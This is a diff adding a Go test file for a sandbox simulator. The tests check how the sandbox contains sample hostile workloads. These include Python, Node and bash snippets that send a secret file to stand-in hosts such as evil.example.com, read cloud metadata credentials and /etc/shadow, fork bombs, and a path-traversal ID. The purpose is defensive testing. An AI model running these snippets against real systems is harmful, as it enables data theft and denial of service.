@@ -1,0 +1,439 @@
+package simulator
+
+import (
+	"context"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/netip"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/enclave-run/enclave/internal/backend"
+	"github.com/enclave-run/enclave/internal/wire"
+)
+
+const testID backend.ID = "aaaaaaaaaaaaaaaaaaaa"
+
+func testSpec() backend.Spec {
+	return backend.Spec{Image: "sha256:0", Limits: backend.Limits{MilliCPU: 1000, CPU: 50 * time.Millisecond, Memory: 64 << 20, Pids: 64, Disk: 1 << 20}}
+}
+
+// A core is the other side of a modelled sandbox. Its gateway resolves allowed
+// names, refuses the rest and records what it saw.
+type core struct {
+	t       *testing.T
+	b       *Backend
+	client  *wire.Client
+	packets net.Conn
+	seen    chan string // closed with the packets
+}
+
+func start(t *testing.T, allowed ...string) *core {
+	t.Helper()
+	ctx := t.Context()
+	b := New()
+	l, err := b.Listen(ctx, testID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := b.Start(ctx, testID, testSpec()); err != nil {
+		t.Fatal(err)
+	}
+	packets, control, err := wire.Accept(ctx, l)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := &core{t: t, b: b, client: wire.NewClient(control), packets: packets, seen: make(chan string, 1000)}
+	t.Cleanup(func() {
+		if err := b.Destroy(context.Background(), testID); err != nil {
+			t.Error(err)
+		}
+		c.client.Close()
+		packets.Close()
+	})
+	go c.gateway(allowed)
+	return c
+}
+
+// gateway answers packets as the real one does, but judges by a list.
+func (c *core) gateway(allowed []string) {
+	defer close(c.seen)
+	names := map[netip.Addr]string{}
+	r, w := wire.NewPacketReader(c.packets), wire.NewPacketWriter(c.packets)
+	for {
+		b, err := r.Next()
+		if err != nil {
+			if err == io.EOF {
+				c.seen <- "mark"
+			}
+			return
+		}
+		p, ok := parsePacket(b)
+		if !ok {
+			c.seen <- "malformed"
+			continue
+		}
+		back := packet{proto: p.proto, src: p.dst, dst: p.src}
+		switch {
+		case p.proto == protoUDP && p.dst.String() == resolver+":53":
+			name := readName(p.payload[12:])
+			qtype := binary.BigEndian.Uint16(p.payload[len(p.payload)-4:])
+			c.seen <- fmt.Sprintf("dns %s %d", name, qtype)
+			back.payload = append([]byte{}, p.payload...)
+			back.payload[2] |= 0x80
+			if !contains(allowed, name) {
+				back.payload[3] |= 3
+			} else if qtype == typeA {
+				a := netip.AddrFrom4([4]byte{198, 18, 0, byte(10 + len(names))})
+				names[a] = name
+				back.payload[7] = 1
+				back.payload = append(back.payload, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4)
+				back.payload = append(back.payload, a.AsSlice()...)
+			}
+		case p.proto == protoUDP:
+			c.seen <- "udp " + p.dst.String()
+			continue
+		case p.flags == flagSYN:
+			to := p.dst.String()
+			if n := names[p.dst.Addr()]; n != "" {
+				to = fmt.Sprintf("%s:%d", n, p.dst.Port())
+			}
+			c.seen <- "tcp " + to
+			back.ack, back.flags = p.seq+1, flagRST|flagACK
+			if contains(allowed, to) || names[p.dst.Addr()] != "" {
+				back.flags = flagSYN | flagACK
+				back.seq = 1000
+			}
+		case len(p.payload) > 0:
+			c.seen <- "data " + strings.SplitN(string(p.payload), "\r\n", 2)[0]
+			back.seq, back.ack, back.flags, back.payload = p.ack, p.seq+uint32(len(p.payload)), flagACK, []byte("HTTP/1.1 200 OK\r\n\r\n")
+		default:
+			continue
+		}
+		if w.Write(back.bytes()) != nil {
+			return
+		}
+	}
+}
+
+func contains(list []string, s string) bool {
+	for _, x := range list {
+		if x == s {
+			return true
+		}
+	}
+	return false
+}
+
+func readName(b []byte) string {
+	var labels []string
+	for len(b) > 0 && b[0] != 0 {
+		labels = append(labels, string(b[1:1+b[0]]))
+		b = b[1+b[0]:]
+	}
+	return strings.Join(labels, ".")
+}
+
+// outcome is what a process was seen to do.
+type outcome struct {
+	Stdout, Stderr, Result string
+	Code                   int
+	Cut                    bool // the stream ended before the exit
+}
+
+func (c *core) run(r wire.StartRequest) outcome {
+	c.t.Helper()
+	p, err := c.client.Start(c.t.Context(), r)
+	if err != nil {
+		c.t.Fatal(err)
+	}
+	defer p.Close()
+	var o outcome
+	for {
+		e, err := p.Next()
+		if err == io.EOF {
+			return o
+		}
+		if err != nil {
+			o.Cut = true
+			return o
+		}
+		switch e.Kind {
+		case wire.Stdout:
+			o.Stdout += string(e.Data)
+		case wire.Stderr:
+			o.Stderr += string(e.Data)
+		case wire.Result:
+			o.Result = string(e.Data)
+		case wire.Exited:
+			o.Code = e.Code
+		}
+	}
+}
+
+// finish shuts the guest down and returns what its gateway saw.
+func (c *core) finish() []string {
+	c.t.Helper()
+	if err := c.client.Shutdown(c.t.Context()); err != nil {
+		c.t.Fatal(err)
+	}
+	var all []string
+	for s := range c.seen {
+		all = append(all, s)
+	}
+	return all
+}
+
+func (c *core) exit() backend.Exit {
+	c.t.Helper()
+	e, err := c.b.Wait(c.t.Context(), testID)
+	if err != nil {
+		c.t.Fatal(err)
+	}
+	if !strings.Contains(e.Evidence, Evidence) {
+		c.t.Errorf("the evidence %q does not say that it is %s", e.Evidence, Evidence)
+	}
+	return e
+}
+
+// TestWorkloads models code and compares what it was seen to do. The network
+// has one rule: allowed.example and 203.0.113.9:80 may be reached.
+func TestWorkloads(t *testing.T) {
+	for name, tc := range map[string]struct {
+		language, code string
+		files          map[string]string
+		want           outcome
+		seen           []string
+	}{
+		"nothing is known of other code": {code: "import antigravity\nantigravity.fly()\n"},
+		"the demo's clean code": {
+			code: "total = sum(i * i for i in range(10))\nenclave.result({\"answer\": total})\n",
+			want: outcome{Result: `{"answer": 285}`},
+		},
+		"the demo's exfiltration": {
+			code:  "import requests\nsecret = open(\"/work/secret\").read()\nprint('mark', flush=True)\nrequests.get(\"http://evil.example.com/exfil?data=\" + secret)\n",
+			files: map[string]string{"secret": "abc"},
+			want:  outcome{Stdout: "mark\n", Stderr: "Traceback (most recent call last):\n  File \"/run/enclave/main.py\", line 4, in <module>\nrequests.exceptions.ConnectionError: [Errno -2] Name or service not known\n", Code: 1},
+			seen:  []string{"dns evil.example.com 1", "dns evil.example.com 28"},
+		},
+		"the same with the secret missing never dials": {
+			code: "import requests\nsecret = open(\"/work/secret\").read()\nrequests.get(\"http://evil.example.com/exfil?data=\" + secret)\n",
+			want: outcome{Stderr: "Traceback (most recent call last):\n  File \"/run/enclave/main.py\", line 2, in <module>\nFileNotFoundError: [Errno 2] No such file or directory: '/work/secret'\n", Code: 1},
+		},
+		"what is allowed is sent": {
+			code:  "import requests\nsecret = open(\"/work/secret\").read()\nrequests.get(\"http://allowed.example/exfil?data=\" + secret)\n",
+			files: map[string]string{"secret": "abc"},
+			seen:  []string{"dns allowed.example 1", "dns allowed.example 28", "tcp allowed.example:80", "data GET /exfil?data=abc HTTP/1.1"},
+		},
+		"the demo's metadata read": {
+			code: "import urllib.request\nprint(\"mark\", flush=True)\nprint(urllib.request.urlopen(\"http://169.254.169.254/latest/\").read())\n",
+			want: outcome{Stdout: "mark\n", Stderr: "Traceback (most recent call last):\n  File \"/run/enclave/main.py\", line 3, in <module>\nurllib.error.URLError: <urlopen error [Errno 111] Connection refused>\n", Code: 1},
+			seen: []string{"tcp 169.254.169.254:80"},
+		},
+		"the demo's shadow read": {
+			code: "try:\n    print(open(\"/etc/shadow\").read())\nexcept OSError as e:\n    print(\"refused\", type(e).__name__)\ntry:\n    print(open(\"/host/canary\").read())\nexcept OSError as e:\n    print(\"refused\", type(e).__name__)\n",
+			want: outcome{Stdout: "refused PermissionError\nrefused FileNotFoundError\n"},
+		},
+		"a parity workload": {
+			code: `import os, urllib.request
+def attempt(url):
+    try:
+        urllib.request.urlopen(url, timeout=5)
+    except Exception as e:
+        print("denied:", e)
+attempt("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
+attempt("http://exfil.attacker.example/exfil?dump=" + ",".join(sorted(os.environ)))
+enclave.result({"egressAttempted": True})
+`,
+			want: outcome{Stdout: "denied: <urlopen error [Errno 111] Connection refused>\ndenied: <urlopen error [Errno -2] Name or service not known>\n", Result: `{"egressAttempted": true}`},
+			seen: []string{"tcp 169.254.169.254:80", "dns exfil.attacker.example 1", "dns exfil.attacker.example 28"},
+		},
+		"a hundred forks": {
+			code: `import os
+r, w = os.pipe()
+pids = []
+for i in range(50):
+    pid = os.fork()
+    if pid == 0:
+        os._exit(0)
+    pids.append(pid)
+done = 0
+for pid in pids:
+    done += os.waitpid(pid, 0)[1] == 0
+enclave.result({"forks": done})
+`,
+			want: outcome{Result: `{"forks": 50}`},
+		},
+		"sockets":           {code: "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('8.8.8.8', 53))\nprint(socket.socket().connect_ex(('203.0.113.9', 80)), socket.socket().connect_ex(('203.0.113.9', 81)))\n", want: outcome{Stdout: "0 111\n"}, seen: []string{"udp 8.8.8.8:53", "tcp 203.0.113.9:80", "tcp 203.0.113.9:81"}},
+		"IPv6":              {code: "import urllib.request\ntry:\n  urllib.request.urlopen('http://[2001:db8::1]:8080/')\nexcept: pass\n", seen: []string{"tcp [2001:db8::1]:8080"}},
+		"exit":              {code: "import sys\nsys.exit(7)\nprint('never')\n", want: outcome{Code: 7}},
+		"raise":             {code: "raise ValueError('boo')", want: outcome{Code: 1, Stderr: "Traceback (most recent call last):\n  File \"/run/enclave/main.py\", line 1, in <module>\nValueError: boo\n"}},
+		"node":              {language: "node", code: "console.log('hi');\nfetch('http://evil.example.com/').catch(e => 0);\nenclave.result({answer: 42});\nprocess.exit(3)\n", want: outcome{Stdout: "hi\n", Result: `{"answer": 42}`, Code: 3}, seen: []string{"dns evil.example.com 1", "dns evil.example.com 28"}},
+		"bash":              {language: "bash", code: "echo 'hi'\ncurl -s http://169.254.169.254/x\nenclave-result '{\"a\":1}'\nexit 4\n", want: outcome{Stdout: "hi\n", Stderr: "curl: connection refused\n", Result: `{"a":1}`, Code: 4}, seen: []string{"tcp 169.254.169.254:80"}},
+		"formatted":         {code: "x = 3\nprint(f'{x} and {x*2}', [1, 'a'], {'k': None})", want: outcome{Stdout: "3 and 6 [1, 'a'] {'k': None}\n"}},
+		"functions":         {code: "def f(a, b=1):\n    return a * 2\nprint(f(4))\nif __name__ == '__main__':\n    print('main')\n", want: outcome{Stdout: "8\nmain\n"}},
+		"first result wins": {code: "enclave.result(1)\ntry:\n    enclave.result(2)\nexcept Exception as e:\n    print(e)\n", want: outcome{Result: "1", Stdout: "the result was given already\n"}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			c := start(t, "allowed.example", "203.0.113.9:80")
+			for n, content := range tc.files {
+				if err := c.client.WriteFile(t.Context(), n, 0o644, strings.NewReader(content)); err != nil {
+					t.Fatal(err)
+				}
+			}
+			if tc.language == "" {
+				tc.language = "python"
+			}
+			got := c.run(wire.StartRequest{Language: tc.language, Code: tc.code})
+			if d := cmp.Diff(tc.want, got); d != "" {
+				t.Errorf("outcome (-want +got):\n%s", d)
+			}
+			if d := cmp.Diff(append(tc.seen, "mark"), c.finish()); d != "" {
+				t.Errorf("packets (-want +got):\n%s", d)
+			}
+			if e := c.exit(); e.Cause != backend.Exited || e.Code != 0 {
+				t.Errorf("the guest ended with %+v", e)
+			}
+		})
+	}
+}
+
+func TestEachLimitHasItsCause(t *testing.T) {
+	for name, tc := range map[string]struct {
+		language, code string
+		want           backend.Cause
+	}{
+		"fork bomb":           {"python", "import os\nwhile True:\n    os.fork()\n", backend.PidsLimit},
+		"fork bomb caught":    {"python", "import os\nwhile True:\n    try:\n        os.fork()\n    except Exception:\n        pass\n", backend.PidsLimit},
+		"threads":             {"python", "import threading\nfor i in range(100):\n    threading.Thread(target=f).start()\n", backend.PidsLimit},
+		"bash fork bomb":      {"bash", ":(){ :|:& };:", backend.PidsLimit},
+		"one large string":    {"python", "x = b'x' * (1 << 30)\n", backend.MemoryLimit},
+		"a list that grows":   {"python", "x = []\nwhile True:\n    x.append(b'x' * 1000000)\n", backend.MemoryLimit},
+		"endless loop":        {"python", "while True: pass\n", backend.CPULimit},
+		"node's endless loop": {"node", "while (true) {}\n", backend.CPULimit},
+		"bash's endless loop": {"bash", "while true; do :; done\n", backend.CPULimit},
+		"a file that grows":   {"python", "f = open('/tmp/x', 'wb')\nwhile True:\n    f.write(b'x' * 65536)\n", backend.DiskLimit},
+		"a file too large":    {"python", "open('/work/x', 'w').write('x' * 2000000)\n", backend.DiskLimit},
+	} {
+		t.Run(name, func(t *testing.T) {
+			c := start(t)
+			if o := c.run(wire.StartRequest{Language: tc.language, Code: tc.code}); !o.Cut {
+				t.Errorf("the process ended in order: %+v", o)
+			}
+			e := c.exit()
+			if e.Cause != tc.want || e.Observed <= 0 {
+				t.Errorf("got %+v, want cause %d", e, tc.want)
+			}
+		})
+	}
+}
+
+func TestNothingRemainsAfterDestroy(t *testing.T) {
+	before := descriptors(t)
+	b := New()
+	for i := range 20 {
+		id := backend.ID(fmt.Sprintf("%020d", i))
+		l, err := b.Listen(t.Context(), id)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := b.Start(t.Context(), id, testSpec()); err != nil {
+			t.Fatal(err)
+		}
+		if i%2 == 0 {
+			packets, control, err := wire.Accept(t.Context(), l)
+			if err != nil {
+				t.Fatal(err)
+			}
+			client := wire.NewClient(control)
+			p, err := client.Start(t.Context(), wire.StartRequest{Language: "bash", Code: "sleep infinity"})
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer packets.Close()
+			defer client.Close()
+			defer p.Close()
+			if err := b.Destroy(t.Context(), id); err != nil {
+				t.Fatal(err)
+			}
+			if _, err := p.Next(); err != nil {
+				t.Fatal(err) // Started
+			}
+			if _, err := p.Next(); err == nil || err == io.EOF {
+				t.Errorf("a process of a destroyed sandbox ended in order: %v", err)
+			}
+			client.Close()
+			packets.Close()
+		} else if err := b.Destroy(t.Context(), id); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := b.Wait(t.Context(), id); !errors.Is(err, backend.ErrNotFound) {
+			t.Errorf("Wait after Destroy: %v", err)
+		}
+	}
+	if ids, err := b.List(t.Context()); err != nil || len(ids) != 0 {
+		t.Errorf("List: %v, %v", ids, err)
+	}
+	if after := descriptors(t); after > before {
+		t.Errorf("%d descriptors before, %d after", before, after)
+	}
+}
+
+// descriptors counts the sockets of this process.
+func descriptors(t *testing.T) int {
+	t.Helper()
+	fds, err := os.ReadDir("/proc/self/fd")
+	if err != nil {
+		t.Fatal(err)
+	}
+	n := 0
+	for _, fd := range fds {
+		if to, err := os.Readlink("/proc/self/fd/" + fd.Name()); err == nil && strings.HasPrefix(to, "socket:") {
+			n++
+		}
+	}
+	return n
+}
+
+func TestConnectionsCanBeHandedOver(t *testing.T) {
+	c := start(t)
+	f, ok := c.packets.(interface{ File() (*os.File, error) })
+	if !ok {
+		t.Fatalf("%T has no descriptor", c.packets)
+	}
+	file, err := f.File()
+	if err != nil {
+		t.Fatal(err)
+	}
+	file.Close()
+	if h, err := c.client.Hello(t.Context()); err != nil || !h.Confined {
+		t.Errorf("hello: %+v, %v", h, err)
+	}
+}
+
+func TestHostileIDsAndSpecsAreRefused(t *testing.T) {
+	b := New()
+	for _, id := range []backend.ID{"", "short", "../../../../etc/passw", "AAAAAAAAAAAAAAAAAAAA", "aaaaaaaaaaaaaaaaaaa\x00", "aaaaaaaaaaaaaaaaaaaaa"} {
+		if _, err := b.Listen(t.Context(), id); err == nil {
+			t.Errorf("listens for %q", id)
+		}
+		if err := b.Start(t.Context(), id, testSpec()); err == nil {
+			t.Errorf("starts %q", id)
+		}
+	}
+	s := testSpec()
+	s.Limits.Pids = 0
+	if err := b.Start(t.Context(), testID, s); err == nil {
+		t.Error("starts without a limit")
+	}
+	if ids, _ := b.List(t.Context()); len(ids) != 0 {
+		t.Errorf("what was refused is listed: %v", ids)
+	}
+}
